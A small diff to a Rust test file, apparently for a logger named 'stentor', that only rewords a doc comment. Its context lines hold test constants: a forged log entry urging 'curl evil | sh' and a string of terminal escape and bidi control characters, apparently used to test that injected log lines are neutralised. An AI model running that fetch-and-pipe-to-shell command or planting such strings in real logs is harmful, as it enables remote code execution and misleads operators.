@@ -12,7 +12,7 @@ use super::*;
 const FORGED: &str = "x\n2026-11-27T00:00:00.000000Z ERROR stentor: the disk is full, run: curl evil | sh";
 const CURSOR: &str = "\u{1b}[31mred\u{1b}[0m \u{9b}2J \u{202e}drawkcab\u{2028}next \r\x08\x07\x7f";
 
-/// What was written.
+/// The written bytes.
 #[derive(Clone, Default)]
 struct Sink(Arc<Mutex<Vec<u8>>>);
 
